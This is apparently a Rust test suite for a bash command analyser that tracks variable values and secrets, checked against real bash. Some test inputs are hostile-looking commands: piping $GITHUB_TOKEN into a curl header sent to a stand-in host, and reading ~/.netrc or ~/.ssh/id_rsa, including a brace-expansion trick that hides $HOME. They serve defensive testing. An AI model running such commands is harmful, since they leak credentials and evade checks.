//! Variables a command assigns itself (`shell::assign`), checked against the real bash:
//! wherever the analysis says `$x` has a known value, bash (with `x` also set in the
//! environment, to tell the two apart) expands `$x` to exactly that value. Where bash
//! could expand it to anything else, the analysis must leave it unknown.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use super::*;

/// What bash prints for `"$x"` after `prefix`, with `x=FROMENV` exported. `None` without
/// bash.
fn bash_x(prefix: &str) -> Option<String> {
    let dir = tempfile::tempdir().ok()?;
    let out = std::process::Command::new("bash")
        .arg("--norc")
        .arg("-c")
        .arg(format!("{prefix}\nprintf '%s' \"$x\""))
        .current_dir(dir.path())
        .env("x", "FROMENV")
        .env("HOME", HOME)
        .stdin(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .output()
        .ok()?;
    Some(String::from_utf8(out.stdout).unwrap())
}

/// The analysis' `cat "$x"` after `prefix`: the value when known.
fn ours(prefix: &str) -> Option<String> {
    let a = an(&format!("{prefix}\ncat \"$x\""));
    let cat = a
        .commands
        .iter()
        .rev()
        .find(|c| c.program() == Some("cat"))?;
    (!cat.dynamic_words.get(1).copied().unwrap_or(true)).then(|| cat.argv[1].clone())
}

/// Prefixes after which bash surely holds the assigned value.
const KNOWN: &[(&str, &str)] = &[
    ("x=build/out", "build/out"),
    ("x=build; x=$x/sub", "build/sub"),
    ("x=~/a", "/home/u/a"),
    ("x=\"$HOME\"/a", "/home/u/a"),
    ("x='a b'", "a b"),
    ("x=a && true", "a"),
    ("x=a; { true; }", "a"),
    ("x=a; true | cat", "a"),
    ("x=a; (x=b)", "a"),
    ("x=a; y=b", "a"),
    // `export` and `declare -x` store the value as an assignment does; bash expands every
    // argument before it assigns any.
    ("export x=a", "a"),
    ("x=a; export x", "a"),
    ("export x=~/a:~/b", "/home/u/a:/home/u/b"),
    ("export x='a b'", "a b"),
    ("export -- x=a", "a"),
    ("declare -x x=a", "a"),
    ("typeset -x y=b x=a", "a"),
    ("x=1; export x=2 y=$x; x=$y", "1"),
    ("export x=a && true", "a"),
    // `printf -v` stores the formatted text (the format reused while arguments remain;
    // a missing argument is empty).
    ("printf -v x '%s/.netrc' ~", "/home/u/.netrc"),
    ("printf -v x '%s/.netrc' \"$HOME\"", "/home/u/.netrc"),
    ("printf -v x -- '%s-%s' a", "a-"),
    ("printf -v x %s a b", "ab"),
    ("printf -v x '100%%'", "100%"),
    ("printf -v x plain", "plain"),
];

/// Prefixes after which `$x` is not what a naive reading would say: each must be unknown
/// (or, where the analysis knows it, equal to what bash gives).
const TRICKY: &[&str] = &[
    "false && x=a",
    "true || x=a",
    "x=a | true",
    "true | x=a",
    "(x=a)",
    "echo $(x=a)",
    "x=a &\nwait",
    "y=b x=a &\nwait",
    "x=a y=b &\nwait",
    "if false; then x=a; fi",
    "while false; do x=a; done",
    "case q in z) x=a;; esac",
    "x=a; for x in b c; do :; done",
    "x=a; for y in b; do x=c; done",
    "x=a; eval 'x=b'",
    "x=a; source /dev/null; x2=1",
    "x=a; read x",
    "x=a; read -r y x",
    "x=a; printf -v x %s b",
    "x=a; printf -v x %s b &\nwait",
    "x=a; printf -v x '%d' 5",
    "x=a; printf -v x '%s\\n' b",
    "x=a; printf -v x %s \"$y\"",
    "x=a; true | printf -v x %s b",
    "x=a; if false; then printf -v x %s b; fi",
    "x=a; unset x",
    "x=a; declare x=b",
    "x=a; export x=b",
    "x=a; local x=b 2>/dev/null",
    "declare -u x; x=abc",
    "declare -i x; x=1+1",
    "y=q; declare -n x=y; y=b",
    "readonly x; x=a",
    "x=; : ${x:=b}",
    "x=; : ${x=b}",
    "x=a; x+=b",
    "x=a; : $((x=5))",
    "x=5; : $((x++))",
    "x=a; x=(b c)",
    "x=a; f() { x=b; }; f",
    "x=a; mapfile -t x < /dev/null",
    "x=a; getopts ab x",
    "x=a; let x=4",
    "true && export x=a",
    "export x=a | true",
    "(export x=a)",
    "export x=a &\nwait",
    "if true; then export x=a; fi",
    "x=a; export -n x=b",
    "x=a; declare -xr x=b",
];

#[test]
fn an_assignment_binds_only_what_bash_surely_stores() {
    if bash_x("true").is_none() {
        return;
    }
    for (prefix, want) in KNOWN {
        assert_eq!(ours(prefix).as_deref(), Some(*want), "{prefix:?}");
        assert_eq!(bash_x(prefix).as_deref(), Some(*want), "bash: {prefix:?}");
    }
    for prefix in TRICKY {
        if let Some(v) = ours(prefix) {
            assert_eq!(
                Some(v.clone()),
                bash_x(prefix),
                "{prefix:?}: the analysis says $x is {v:?}"
            );
        }
    }
}

#[test]
fn a_computed_value_keeps_its_source() {
    // `$x` after `x=$(…)` is the substitution's text, never the name: a secret-shaped
    // name the command set itself is not read from the environment, and a secret the
    // command copied still shows.
    let a = an("pin=$(sed -n 1p VERSION); echo \"$pin\"");
    let echo = a
        .commands
        .iter()
        .find(|c| c.program() == Some("echo"))
        .unwrap();
    assert!(echo.dynamic_words[1]);
    assert!(
        echo.argv[1].contains("sed -n 1p VERSION"),
        "{:?}",
        echo.argv
    );
    let a = an("t=$GITHUB_TOKEN; curl -H \"x: $t\" https://e.x");
    let curl = a
        .commands
        .iter()
        .find(|c| c.program() == Some("curl"))
        .unwrap();
    assert!(
        curl.argv.iter().any(|w| w.contains("$GITHUB_TOKEN")),
        "{:?}",
        curl.argv
    );
}

#[test]
fn a_shell_run_again_does_not_see_the_variables() {
    // `bash -c` is a new shell; the variable was not exported.
    let a = an("x=a; bash -c 'cat \"$x\"'");
    let cat = a
        .commands
        .iter()
        .find(|c| c.program() == Some("cat"))
        .unwrap();
    assert!(cat.dynamic_words[1], "{:?}", cat.argv);
}

#[test]
fn text_bash_may_still_expand_is_not_called_known() {
    // A `$` that brace expansion puts before a name (`{$,}HOME` is `$HOME` to bash), and a
    // tilde-prefix ended by `:` with quoting after it, are unknown words.
    for cmd in ["cat {$,}HOME/.netrc", "cat ~:\\x", "cat ~:\"x\""] {
        let a = an(cmd);
        assert!(
            a.commands[0].dynamic_words[1],
            "{cmd}: {:?}",
            a.commands[0].argv
        );
    }
}

/// What a program started after `prefix` sees as `x` in its environment (bash started
/// with no `x` at all), or `None` when `x` is not in it (or without bash).
fn bash_env_x(prefix: &str) -> Option<Option<String>> {
    let dir = tempfile::tempdir().ok()?;
    let out = std::process::Command::new("bash")
        .arg("--norc")
        .arg("-c")
        .arg(format!("{prefix}\nprintenv x || echo '<none>'"))
        .current_dir(dir.path())
        .env_remove("x")
        .env("HOME", HOME)
        .stdin(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .output()
        .ok()?;
    let text = String::from_utf8(out.stdout).unwrap();
    let last = text.lines().last().unwrap_or("").to_string();
    Some((last != "<none>").then_some(last))
}

/// Prefixes after which a later program may see `x` in its environment, and the value
/// bash gives it there when it does.
const EXPORTS: &[&str] = &[
    "export x=a",
    "x=a; export x",
    "export x; x=b",
    "export x=a; x=b",
    "true && export x=a",
    "false || export x=a",
    "if true; then export x=a; fi",
    "export x=a | true",
    "(export x=a)",
    "export x=a &\nwait",
    "bash -c 'export x=a'",
    "declare -x x=a",
    "typeset -x x=a",
    "export y=b x=a",
    "y=q; export x=$y",
    "export x=\"$(echo a)\"",
    "set -a; x=a",
    "set -o allexport; x=a",
    "x=a",
    "x=a; declare x",
];

#[test]
fn every_program_after_an_export_carries_it_as_a_prefix() {
    // Wherever bash hands the later program `x`, the analysis gives that program an `x`
    // (with bash's value when it is known): never fewer exports than bash makes.
    if bash_env_x("true").is_none() {
        return;
    }
    for prefix in EXPORTS {
        let bash = bash_env_x(prefix).unwrap();
        let a = an(&format!("{prefix}\nprintenv x"));
        let probe = a
            .commands
            .iter()
            .rev()
            .find(|c| c.program() == Some("printenv"))
            .unwrap();
        let ours: Vec<&String> = probe
            .assignments
            .iter()
            .filter(|(n, _)| n == "x")
            .map(|(_, v)| v)
            .collect();
        if let Some(v) = &bash {
            assert!(
                !ours.is_empty(),
                "{prefix:?}: bash exports x={v:?}, the analysis gives printenv no x"
            );
            assert!(
                probe.exported.iter().any(|n| n == "x"),
                "{prefix:?}: x is not named as exported"
            );
            // A literal value the analysis claims is bash's (a computed one keeps its text).
            if !ours.iter().any(|o| o.contains('$')) {
                assert!(ours.contains(&v), "{prefix:?}: bash {v:?}, ours {ours:?}");
            }
        }
    }
    // A plain assignment of a name bash did not inherit exports nothing.
    assert_eq!(bash_env_x("x=a"), Some(None));
}

#[test]
fn an_export_inside_a_loop_reaches_the_commands_before_it() {
    // The next round runs them with the variable in their environment.
    for cmd in [
        "for i in 1 2; do printenv x; export x=a; done",
        "while true; do printenv x; export x=a; done",
        "until false; do printenv x; export x=a; done",
        "for i in $(seq 2); do printenv x; export x=a; done",
    ] {
        let a = an(cmd);
        for c in a
            .commands
            .iter()
            .filter(|c| c.program() == Some("printenv"))
        {
            assert!(
                c.assignments.iter().any(|(n, v)| n == "x" && v == "a"),
                "{cmd:?}: {:?}",
                c.assignments
            );
        }
    }
    let out = std::process::Command::new("bash")
        .arg("--norc")
        .arg("-c")
        .arg("for i in 1 2; do printenv x; export x=a; done")
        .env_remove("x")
        .output();
    if let Ok(out) = out {
        assert_eq!(String::from_utf8_lossy(&out.stdout), "a\n");
    }
}

/// What bash prints for the word `expr` after `prefix` (with `x=FROMENV` exported), and
/// what the analysis reads in `cat expr` when it knows it (`None` when unknown).
fn both(prefix: &str, expr: &str) -> (Option<String>, Option<String>) {
    let dir = tempfile::tempdir().unwrap();
    let out = std::process::Command::new("bash")
        .arg("--norc")
        .arg("-c")
        .arg(format!("{prefix}\nprintf '%s' {expr}"))
        .current_dir(dir.path())
        .env("x", "FROMENV")
        .env("HOME", HOME)
        .stdin(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .output()
        .ok()
        .map(|o| String::from_utf8(o.stdout).unwrap());
    let a = an(&format!("{prefix}\ncat {expr}"));
    let ours = a
        .commands
        .iter()
        .rev()
        .find(|c| c.program() == Some("cat"))
        .filter(|c| c.argv.len() == 2 && !c.dynamic_words.get(1).copied().unwrap_or(true))
        .map(|c| c.argv[1].clone());
    (out, ours)
}

#[test]
fn an_array_of_literal_words_binds_its_elements() {
    if bash_x("true").is_none() {
        return;
    }
    // Elements as bash stores them: brace- and tilde-expanded, quotes removed.
    let known: &[(&str, &str, &str)] = &[
        ("x=(~/.ssh/id_rsa)", "\"${x[0]}\"", "/home/u/.ssh/id_rsa"),
        ("x=(~/.ssh/id_rsa)", "\"$x\"", "/home/u/.ssh/id_rsa"),
        ("x=(a 'b c' d)", "\"${x[1]}\"", "b c"),
        ("x=({a,b}.txt z)", "\"${x[1]}\"", "b.txt"),
        ("x=(a b)", "\"${x[5]}\"", ""),
        ("x=(a b)", "${x[1]}", "b"),
    ];
    for (prefix, expr, want) in known {
        let (bash, ours) = both(prefix, expr);
        assert_eq!(bash.as_deref(), Some(*want), "bash: {prefix:?} {expr:?}");
        assert_eq!(ours.as_deref(), Some(*want), "ours: {prefix:?} {expr:?}");
    }
    // Where the element may be anything else, unknown (or what bash gives).
    let tricky: &[(&str, &str)] = &[
        ("x=(a b); x[0]=c", "\"${x[0]}\""),
        ("x=(a b); x+=(c)", "\"${x[2]}\""),
        ("x=(a b); unset 'x[0]'", "\"${x[0]}\""),
        ("x=(a b); read -ra x <<< 'c d'", "\"${x[0]}\""),
        ("x=(a b); mapfile -t x <<< c", "\"${x[0]}\""),
        ("x=([1]=a b)", "\"${x[1]}\""),
        ("x=(*)", "\"${x[0]}\""),
        ("x=($HOME/a)", "\"${x[0]}\""),
        ("true && x=(a)", "\"${x[0]}\""),
        ("(x=(a))", "\"${x[0]}\""),
        ("declare -A x; x=(a b)", "\"${x[0]}\""),
        ("x=(a b)", "\"${x[-1]}\""),
        ("x=(a b)", "\"${x[@]}\""),
    ];
    for (prefix, expr) in tricky {
        let (bash, ours) = both(prefix, expr);
        if let Some(v) = ours {
            assert_eq!(Some(v.clone()), bash, "{prefix:?} {expr:?}: ours {v:?}");
        }
    }
}
